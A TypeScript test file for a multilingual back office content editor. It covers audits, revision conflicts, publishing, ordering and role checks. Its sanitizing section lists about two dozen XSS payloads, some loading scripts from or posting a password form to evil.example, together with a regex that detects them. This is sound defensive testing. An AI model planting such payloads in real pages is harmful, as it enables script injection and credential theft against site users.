// The back office's content editor against the real app and database (PGlite, or PostgreSQL with
// TEST_DATABASE_URL): a superadmin creates and edits items in several languages and customers read them in
// their own language or a named fallback; every change leaves an audit row with before, after and reason;
// bodies are sanitized on save and on read (a row written around the editor too); missing languages are
// flagged; an edited item is the operator's and the seed leaves it alone; other roles get 403.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, desc, eq } from 'drizzle-orm';
import {
  codes,
  contentTypes,
  type AdminContentDetail,
  type AdminContentItem,
  type AdminRole,
  type ContentDetail,
  type ContentPreview,
  type FaqEntry,
  type Page,
} from '@tradewind/contract';
import { locales } from '@tradewind/i18n/locales';
import {
  adminToken,
  client,
  registerUser,
  secureAdmin,
  startTestApp,
  type TestApp,
} from '../test/harness.ts';
import { auditLog } from '../platform/audit-tables.ts';
import { contents, contentTranslations } from './tables.ts';
import { seedContent } from './seed.ts';
import { pageTexts } from './page-texts/index.ts';
import { helpTexts } from './help-texts/index.ts';

let t: TestApp;
let superToken: string;
beforeAll(async () => {
  t = await startTestApp();
  superToken = await adminToken(t);
});
afterAll(async () => t.close());

const base = '/admin/api/contents';
const admin = (token = superToken) => client(t.app, { token });
const customer = (lang: string) => client(t.app, { lang });

const faqBody = (texts: Record<string, Record<string, string>>, extra: object = {}) => ({
  type: contentTypes.faq,
  topic: 'fees',
  published: true,
  translations: texts,
  reason: 'new question from support',
  ...extra,
});

async function create(body: object): Promise<AdminContentDetail> {
  const res = await admin().post<AdminContentDetail>(base, { body });
  expect(res.body.code, res.body.message).toBe('200');
  return res.body.result;
}
const detail = async (id: string) => (await admin().get<AdminContentDetail>(`${base}/${id}`)).body.result;
const update = (id: string, body: object, token = superToken) =>
  admin(token).post<AdminContentDetail>(`${base}/${id}`, { body });
const auditOf = (id: string) =>
  t.ctx.db
    .select()
    .from(auditLog)
    .where(eq(auditLog.target, `content:${id}`))
    .orderBy(desc(auditLog.id));
const customerFaq = async (lang: string) =>
  (await customer(lang).get<FaqEntry[]>('/api/swx/customer/index/listFaq')).body.result;
const customerDetail = async (lang: string, id: string) =>
  (await customer(lang).get<ContentDetail>(`/api/swx/customer/index/getContentsById/${id}`)).body;

describe('creating and editing an item', () => {
  it('a FAQ entry written in English and Arabic reaches customers in each, and the others in named English', async () => {
    const made = await create(
      faqBody({
        en: {
          title: 'How are fees shown?',
          body: '<p>Every fee is shown <strong>before</strong> you confirm.</p>',
        },
        ar: { title: 'كيف تُعرض الرسوم؟', body: '<p>تُعرض كل رسوم قبل التأكيد.</p>' },
      }),
    );
    expect(made).toMatchObject({ type: 4, topic: 'fees', published: true, revision: 0, slug: null });
    expect(made.languages).toEqual(['en', 'ar']);
    expect(made.missing).toEqual(locales.filter((l) => l !== 'en' && l !== 'ar'));
    expect(made.fallbacks).toMatchObject({ ja: 'en', th: 'en', 'zh-TW': 'en' });

    const ar = (await customerFaq('ar')).find((e) => e.id === made.id);
    expect(ar).toMatchObject({ title: 'كيف تُعرض الرسوم؟', locale: 'ar' });
    expect(ar?.result).toBe('<p>تُعرض كل رسوم قبل التأكيد.</p>');
    const ja = (await customerFaq('ja')).find((e) => e.id === made.id);
    expect(ja).toMatchObject({ title: 'How are fees shown?', locale: 'en' });
  });

  it('records the creation in the audit log with what was written and why', async () => {
    const made = await create(faqBody({ en: { title: 'Audited question', body: '<p>Answer</p>' } }));
    const [row] = await auditOf(made.id);
    expect(row).toMatchObject({ action: 'content.create', reason: 'new question from support' });
    expect(row?.after).toMatchObject({
      type: 4,
      topic: 'fees',
      published: true,
      translations: { en: { title: 'Audited question', body: '<p>Answer</p>' } },
    });
  });

  it('an edit changes the languages sent, keeps the rest, and is audited with before, after and reason', async () => {
    const made = await create(
      faqBody({
        en: { title: 'Old English', body: '<p>Old answer</p>' },
        de: { title: 'Alte Frage', body: '<p>Alte Antwort</p>' },
      }),
    );
    const res = await update(made.id, {
      revision: made.revision,
      translations: {
        en: { title: 'New English', body: '<p>New answer</p>' },
        ar: { title: 'سؤال جديد', body: '<p>إجابة جديدة</p>' },
      },
      reason: 'clearer wording',
    });
    expect(res.body.code).toBe('200');
    expect(res.body.result.revision).toBe(made.revision + 1);
    expect(res.body.result.translations.de?.title).toBe('Alte Frage');
    expect(res.body.result.translations.ar?.title).toBe('سؤال جديد');
    expect(res.body.result.editedAt).toBe(t.clock.now());

    const [row] = await auditOf(made.id);
    expect(row).toMatchObject({ action: 'content.update', reason: 'clearer wording' });
    expect(row?.before).toEqual({
      translations: { en: { title: 'Old English', body: '<p>Old answer</p>' } },
    });
    expect(row?.after).toEqual({
      translations: {
        en: { title: 'New English', body: '<p>New answer</p>' },
        ar: { title: 'سؤال جديد', body: '<p>إجابة جديدة</p>' },
      },
    });
    expect((await customerDetail('de', made.id)).result).toMatchObject({ title: 'Alte Frage', locale: 'de' });
    expect((await customerDetail('en', made.id)).result).toMatchObject({ title: 'New English' });
  });

  it('removes a language when it is sent as null, and the list then flags it as missing', async () => {
    const made = await create(
      faqBody({
        en: { title: 'Kept', body: '<p>Kept</p>' },
        fr: { title: 'Retirée', body: '<p>Retirée</p>' },
      }),
    );
    const res = await update(made.id, {
      revision: 0,
      translations: { fr: null },
      reason: 'wrong translation',
    });
    expect(res.body.result.missing).toContain('fr');
    expect(res.body.result.fallbacks.fr).toBe('en');
    expect((await customerDetail('fr', made.id)).result).toMatchObject({ locale: 'en', title: 'Kept' });
    const [row] = await auditOf(made.id);
    expect(row?.after).toEqual({ translations: { fr: null } });
  });

  it('a save on a revision another operator already moved past is refused with 10153, changing nothing', async () => {
    const made = await create(faqBody({ en: { title: 'First', body: '<p>First</p>' } }));
    expect((await update(made.id, { revision: 0, order: 7, reason: 'first operator' })).body.code).toBe(
      '200',
    );
    const late = await update(made.id, {
      revision: 0,
      translations: { en: { title: 'Second', body: '<p>Second</p>' } },
      reason: 'second operator',
    });
    expect([late.status, late.body.code]).toEqual([409, codes.contentChangedMeanwhile]);
    expect((await detail(made.id)).translations.en?.title).toBe('First');
  });

  it('two operators saving the same revision at once: one wins, the other is told', async () => {
    const made = await create(faqBody({ en: { title: 'Race', body: '<p>Race</p>' } }));
    const answers = await Promise.all(
      ['A', 'B'].map((who) =>
        update(made.id, {
          revision: 0,
          translations: { en: { title: `By ${who}`, body: `<p>${who}</p>` } },
          reason: who,
        }),
      ),
    );
    expect(answers.map((a) => a.body.code).sort()).toEqual([codes.contentChangedMeanwhile, '200']);
    expect(await auditOf(made.id)).toHaveLength(2); // the creation and one edit
  });

  it('an edit that changes nothing writes nothing', async () => {
    const made = await create(faqBody({ en: { title: 'Same', body: '<p>Same</p>' } }));
    const res = await update(made.id, {
      revision: 0,
      translations: { en: { title: 'Same', body: '<p>Same</p>' } },
      published: true,
      reason: 'no-op',
    });
    expect(res.body.result.revision).toBe(0);
    expect(await auditOf(made.id)).toHaveLength(1);
  });
});

describe('what an item must have', () => {
  it('refuses an item without English (10152): every missing language falls back to it', async () => {
    const res = await admin().post(base, { body: faqBody({ ja: { title: '質問', body: '<p>答え</p>' } }) });
    expect([res.status, res.body.code]).toEqual([400, codes.contentEnglishRequired]);
    const made = await create(faqBody({ en: { title: 'E', body: '<p>E</p>' } }));
    const removing = await update(made.id, { revision: 0, translations: { en: null }, reason: 'oops' });
    expect(removing.body.code).toBe(codes.contentEnglishRequired);
  });

  it('needs a topic on a FAQ entry and refuses one elsewhere', async () => {
    const en = { en: { title: 'T', body: '<p>B</p>' } };
    const noTopic = await admin().post<{ fields: Record<string, string> }>(base, {
      body: { type: contentTypes.faq, published: true, translations: en },
    });
    expect(noTopic.body.result.fields).toHaveProperty('topic');
    const topicOnPolicy = await admin().post<{ fields: Record<string, string> }>(base, {
      body: { type: contentTypes.policy, topic: 'fees', published: true, translations: en },
    });
    expect(topicOnPolicy.body.result.fields).toHaveProperty('topic');
  });

  it('refuses unknown languages and fields, a price among them', async () => {
    const en = { title: 'T', body: '<p>B</p>' };
    for (const body of [
      faqBody({ en, xx: en }),
      faqBody({ en }, { price: '1.0' }),
      faqBody({ en: { ...en, rate: '2' } }),
    ]) {
      const res = await admin().post(base, { body });
      expect([res.status, res.body.code]).toEqual([400, codes.paramsEmpty]);
    }
  });

  it('requires a reason for every change', async () => {
    const made = await create(faqBody({ en: { title: 'R', body: '<p>R</p>' } }));
    const res = await admin().post<{ fields: Record<string, string> }>(`${base}/${made.id}`, {
      body: { revision: 0, published: false },
    });
    expect(res.body.result.fields).toHaveProperty('reason');
    const pub = await admin().post(`${base}/${made.id}/unpublish`, { body: {} });
    expect(pub.status).toBe(400);
  });

  it('answers 10111 for an unknown id', async () => {
    expect((await admin().get(`${base}/999999`)).body.code).toBe(codes.notFound);
    expect((await update('999999', { revision: 0, order: 1, reason: 'x' })).body.code).toBe(codes.notFound);
  });
});

/** Each payload and what must not survive it; the text beside it must. */
const xssPayloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="jav&#x09;ascript:alert(1)">link</a>',
  '<a href=" javascript:alert(1)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="//evil.example/">link</a>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red">safe link</a>',
];
const dangerous =
  /<\s*(script|svg|iframe|object|embed|img|style|form|input|meta|base|link|math|details)|\son\w+\s*=|style\s*=|javascript:|vbscript:|data:|href="\/\//i;

describe('sanitizing', () => {
  it.each(xssPayloads.map((p) => [p]))('saves %s without anything that runs', async (payload) => {
    const made = await create(
      faqBody({ en: { title: 'XSS probe', body: `<p>keep me</p>${payload}` } }, { topic: 'security' }),
    );
    const [stored] = await t.ctx.db
      .select({ body: contentTranslations.body })
      .from(contentTranslations)
      .where(and(eq(contentTranslations.contentId, Number(made.id)), eq(contentTranslations.locale, 'en')));
    expect(stored?.body).toContain('<p>keep me</p>');
    expect(stored?.body).not.toMatch(dangerous);
    expect(made.translations.en?.body).not.toMatch(dangerous);
    expect((await customerDetail('en', made.id)).result.result).not.toMatch(dangerous);
  });

  it('keeps a safe https link and opens it without handing over the window', async () => {
    const made = await create(
      faqBody({ en: { title: 'Link', body: '<p><a href="https://ok.example/x">ok</a></p>' } }),
    );
    expect(made.translations.en?.body).toBe(
      '<p><a href="https://ok.example/x" rel="noopener noreferrer" target="_blank">ok</a></p>',
    );
  });

  it('sanitizes on read too: a row written around the editor reaches neither customers nor the editor raw', async () => {
    const now = new Date(t.clock.now());
    const [row] = await t.ctx.db
      .insert(contents)
      .values({ type: contentTypes.faq, topic: 'security', sort: 99, updatedAt: now })
      .returning({ id: contents.id });
    if (!row) throw new Error('no row');
    await t.ctx.db.insert(contentTranslations).values({
      contentId: row.id,
      locale: 'en',
      title: '<img src=x onerror=alert(1)>Raw <b>title</b>',
      // The text first: the mutation payload's <style> swallows whatever follows it.
      body: '<p>raw text</p>' + xssPayloads.join(''),
      updatedAt: now,
    });
    const id = String(row.id);
    const read = (await customerDetail('en', id)).result;
    expect(read.title).toBe('Raw title');
    expect(read.result).toContain('<p>raw text</p>');
    expect(read.result).not.toMatch(dangerous);
    const faq = (await customerFaq('en')).find((e) => e.id === id);
    expect(faq?.result).not.toMatch(dangerous);
    const edited = await detail(id);
    expect(edited.title).toBe('Raw title');
    expect(edited.translations.en?.body).not.toMatch(dangerous);
  });

  it('refuses a title with markup and a body with nothing readable left, at their fields', async () => {
    const res = await admin().post<{ fields: Record<string, string> }>(base, {
      body: faqBody({
        en: { title: '<b>Bold</b> title', body: '<script>alert(1)</script>' },
      }),
    });
    expect(res.status).toBe(400);
    expect(Object.keys(res.body.result.fields).sort()).toEqual([
      'translations.en.body',
      'translations.en.title',
    ]);
    expect(res.body.result.fields['translations.en.body']).toBe(
      'Nothing readable is left of this text once unsafe markup is removed',
    );
  });

  it('keeps a title with an ampersand and a less-than sign as written', async () => {
    const made = await create(faqBody({ en: { title: 'Fees & limits < 1%', body: '<p>x</p>' } }));
    expect(made.title).toBe('Fees & limits < 1%');
    expect((await customerDetail('en', made.id)).result.title).toBe('Fees & limits < 1%');
  });

  it('previews a body as customers will get it, saying whether anything was removed', async () => {
    const clean = await admin().post<ContentPreview>(`${base}/preview`, { body: { body: '<p>Hi</p>' } });
    expect(clean.body.result).toEqual({ html: '<p>Hi</p>', changed: false });
    const dirty = await admin().post<ContentPreview>(`${base}/preview`, {
      body: { body: '<p onclick="x()">Hi</p><script>x()</script>' },
    });
    expect(dirty.body.result).toEqual({ html: '<p>Hi</p>', changed: true });
  });
});

describe('publishing and order', () => {
  it('unpublish hides an item from customers and publish shows it again, each audited once', async () => {
    const made = await create(faqBody({ en: { title: 'Toggle', body: '<p>T</p>' } }));
    const off = await admin().post<AdminContentDetail>(`${base}/${made.id}/unpublish`, {
      body: { reason: 'outdated' },
    });
    expect(off.body.result.published).toBe(false);
    expect((await customerFaq('en')).some((e) => e.id === made.id)).toBe(false);
    expect((await customerDetail('en', made.id)).code).toBe(codes.notFound);
    // Again: already unpublished, nothing written.
    await admin().post(`${base}/${made.id}/unpublish`, { body: { reason: 'again' } });
    await admin().post(`${base}/${made.id}/publish`, { body: { reason: 'updated' } });
    expect((await customerFaq('en')).some((e) => e.id === made.id)).toBe(true);
    const actions = (await auditOf(made.id)).map((r) => [r.action, r.before, r.after, r.reason]);
    expect(actions).toEqual([
      ['content.publish', { published: false }, { published: true }, 'updated'],
      ['content.unpublish', { published: true }, { published: false }, 'outdated'],
      ['content.create', null, expect.anything(), 'new question from support'],
    ]);
  });

  it('a draft notice is dated when first published, and then leads the notice list', async () => {
    const made = await create({
      type: contentTypes.notice,
      published: false,
      translations: { en: { title: 'Maintenance window', body: '<p>Sunday 02:00 UTC</p>' } },
    });
    expect(made.publishedAt).toBeNull();
    t.clock.advance(60_000);
    const res = await admin().post<AdminContentDetail>(`${base}/${made.id}/publish`, {
      body: { reason: 'announce' },
    });
    expect(res.body.result.publishedAt).toBe(t.clock.now());
    const list = (
      await customer('en').get<{ id: string; type: number }[]>('/api/swx/customer/index/listContents/2')
    ).body.result;
    expect(list.find((i) => i.type === contentTypes.notice)?.id).toBe(made.id);
  });

  it('orders the FAQ as told, customers see that order, and a stale list is refused with 10154', async () => {
    const listed = async () =>
      (await admin().get<Page<AdminContentItem>>(base, { query: { type: '4', size: '100' } })).body.result
        .list;
    const ids = (await listed()).map((i) => i.id);
    const reversed = [...ids].reverse();
    const res = await admin().post<AdminContentItem[]>(`${base}/order`, {
      body: { type: contentTypes.faq, ids: reversed, reason: 'most asked first' },
    });
    expect(res.body.result.map((i) => i.id)).toEqual(reversed);
    const published = new Set((await listed()).filter((i) => i.published).map((i) => i.id));
    expect((await customerFaq('en')).map((e) => e.id)).toEqual(reversed.filter((id) => published.has(id)));
    const [row] = await t.ctx.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.target, 'contents:type:4'))
      .orderBy(desc(auditLog.id));
    expect(row).toMatchObject({ action: 'content.order', before: { ids }, after: { ids: reversed } });

    const stale = await admin().post(`${base}/order`, {
      body: { type: contentTypes.faq, ids: reversed.slice(1), reason: 'stale' },
    });
    expect([stale.status, stale.body.code]).toEqual([409, codes.contentOrderStale]);
  });
});

describe('the list', () => {
  it('lists by type with each item flagged for the languages it lacks', async () => {
    const made = await create(
      faqBody({ en: { title: 'Flagged', body: '<p>F</p>' }, ja: { title: 'フラグ', body: '<p>F</p>' } }),
    );
    const res = await admin().get<Page<AdminContentItem>>(base, { query: { type: '4', size: '100' } });
    expect(res.body.result.list.every((i) => i.type === 4)).toBe(true);
    const item = res.body.result.list.find((i) => i.id === made.id);
    expect(item).toMatchObject({ title: 'Flagged', languages: ['en', 'ja'] });
    expect(item?.missing).toHaveLength(9);
    const seeded = res.body.result.list.filter((i) => i.slug !== null);
    expect(seeded.length).toBeGreaterThanOrEqual(12);
    expect(seeded.every((i) => i.missing.length === 0)).toBe(true);
  });

  it('pages: the total counts every item of the type', async () => {
    const page1 = await admin().get<Page<AdminContentItem>>(base, { query: { type: '1', size: '1' } });
    expect(page1.body.result).toMatchObject({ page: 1, size: 1 });
    expect(page1.body.result.list).toHaveLength(1);
    expect(page1.body.result.total).toBeGreaterThanOrEqual(1);
  });
});

describe('an edited seeded item is the operator’s', () => {
  it('the seed neither upgrades its other languages nor puts back a language removed from it', async () => {
    const [about] = await t.ctx.db.select().from(contents).where(eq(contents.slug, 'about'));
    if (!about) throw new Error('no about page');
    const id = String(about.id);
    const before = await detail(id);
    const res = await update(id, {
      revision: before.revision,
      translations: { en: { title: 'About us (edited)', body: '<p>Our own words.</p>' }, th: null },
      reason: 'company rewrite',
    });
    expect(res.body.code).toBe('200');
    expect(res.body.result.translations.ja?.seeded).toBe(true);
    expect(res.body.result.translations.en?.seeded).toBe(false);

    // A newer edition of every language of the page in the modules, as a release would bring.
    const raised = Object.fromEntries(
      Object.entries(pageTexts).map(([l, texts]) => [
        l,
        { ...texts, about: texts.about && { ...texts.about, version: '99.0', body: '<p>new edition</p>' } },
      ]),
    );
    await seedContent(t.ctx.db, new Date(t.clock.now()), { pages: raised, help: helpTexts });

    const after = await detail(id);
    expect(after.translations.en?.title).toBe('About us (edited)');
    expect(after.translations.ja?.body).toBe(before.translations.ja?.body);
    expect(after.missing).toEqual(['th']);
  });

  it('while an item no one edited still takes the newer edition', async () => {
    const [terms] = await t.ctx.db.select().from(contents).where(eq(contents.slug, 'terms'));
    if (!terms) throw new Error('no terms page');
    const raised = Object.fromEntries(
      Object.entries(pageTexts).map(([l, texts]) => [
        l,
        {
          ...texts,
          terms: texts.terms && { ...texts.terms, version: '99.0', body: `<p>${l} new terms</p>` },
        },
      ]),
    );
    await seedContent(t.ctx.db, new Date(t.clock.now()), { pages: raised, help: helpTexts });
    expect((await detail(String(terms.id))).translations.ja?.body).toBe('<p>ja new terms</p>');
  });
});

describe('who may edit', () => {
  const otherRoles: AdminRole[] = ['support', 'finance', 'compliance'];

  // Secured accounts (own password, TOTP enrolled): the refusal is the role's, not an unsecured account's 10114.
  const tokenOf = async (role: AdminRole) => (await secureAdmin(t, role)).token;

  it.each(otherRoles.map((r) => [r]))('%s gets 403 on every content route', async (role) => {
    const token = await tokenOf(role);
    const [item] = (await admin().get<Page<AdminContentItem>>(base)).body.result.list;
    const id = item?.id ?? '1';
    const calls = [
      admin(token).get(base),
      admin(token).get(`${base}/${id}`),
      admin(token).post(base, { body: faqBody({ en: { title: 'x', body: '<p>x</p>' } }) }),
      admin(token).post(`${base}/${id}`, { body: { revision: 0, order: 1, reason: 'x' } }),
      admin(token).post(`${base}/${id}/publish`, { body: { reason: 'x' } }),
      admin(token).post(`${base}/${id}/unpublish`, { body: { reason: 'x' } }),
      admin(token).post(`${base}/order`, { body: { type: 4, ids: [id], reason: 'x' } }),
      admin(token).post(`${base}/preview`, { body: { body: '<p>x</p>' } }),
    ];
    for (const res of await Promise.all(calls)) {
      expect([res.status, res.body.code]).toEqual([403, codes.authStatusWrong]);
    }
  });

  it('a customer token is not an operator: 401', async () => {
    const user = await registerUser(t);
    const res = await client(t.app, { token: user.token }).get(base);
    expect(res.status).toBe(401);
  });
});
